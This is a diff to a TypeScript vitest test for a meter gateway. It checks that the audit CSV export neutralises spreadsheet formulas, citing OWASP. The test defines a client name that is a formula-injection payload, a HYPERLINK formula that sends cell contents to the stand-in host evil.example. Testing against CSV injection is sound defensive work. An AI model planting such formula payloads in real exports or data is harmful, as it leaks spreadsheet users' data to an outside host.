@@ -1,3 +1,4 @@
+import { createHash } from 'node:crypto';
 import { parse as parseCsv } from 'csv-parse/sync';
 import type { Socket } from 'node:net';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
@@ -13,11 +14,18 @@ let f: GatewayFixture;
 /** Bytes the gateway read from each connection, by the client's port, once the connection has closed. */
 const serverRead = new Map<number, number>();
 
+/** A configured key whose client (its configured name is its id, and the audit's actor) reads as a spreadsheet formula. */
+const FORMULA_CLIENT = '=HYPERLINK("http://evil.example/?"&A1,"click")';
+const FORMULA_KEY = 'formula-client-key-0001';
+
 beforeAll(async () => {
-  f = await startGatewayFixture([
-    { meterId: 'EDGE-1', profileId: CLOSES, initialRelay: 'disconnected' },
-    { meterId: '-2-3', profileId: CLOSES, initialRelay: 'connected' },
-  ]);
+  f = await startGatewayFixture(
+    [
+      { meterId: 'EDGE-1', profileId: CLOSES, initialRelay: 'disconnected' },
+      { meterId: '-2-3', profileId: CLOSES, initialRelay: 'connected' },
+    ],
+    { auth: { keys: [{ name: FORMULA_CLIENT, role: 'operator', sha256: createHash('sha256').update(FORMULA_KEY).digest('hex') }], demoKeys: true } },
+  );
   f.gateway.api.server.on('connection', (socket: Socket) => {
     const port = socket.remotePort!;
     socket.on('close', () => serverRead.set(port, socket.bytesRead));
@@ -142,11 +150,9 @@ describe('JSON nesting', () => {
 });
 
 describe('CSV exports', () => {
-  it('the audit export writes a key name or meter id a spreadsheet would run as a formula as text (OWASP)', async () => {
-    const name = '=HYPERLINK("http://evil.example/?"&A1,"click")';
-    const made = await f.http('POST', '/v1/keys', { key: f.adminKey, headers: { 'idempotency-key': 'edge-key' }, body: { name, role: 'operator' } });
-    expect(made.status).toBe(201);
-    const flagged = await f.http('PUT', '/v1/meters/-2-3/flags', { key: made.body.key, headers: { 'idempotency-key': 'edge-flags' }, body: { vulnerable: true } });
+  it('the audit export writes a client or meter id a spreadsheet would run as a formula as text (OWASP)', async () => {
+    const name = FORMULA_CLIENT;
+    const flagged = await f.http('PUT', '/v1/meters/-2-3/flags', { key: FORMULA_KEY, headers: { 'idempotency-key': 'edge-flags' }, body: { vulnerable: true } });
     expect(flagged.status).toBe(200);
     const res = await fetch(`${f.gateway.apiUrl}/v1/audit/export?format=csv&target=-2-3`, { headers: { authorization: `Bearer ${f.adminKey}` } });
     const rows = parseCsv(await res.text(), { columns: true }) as Record<string, string>[];
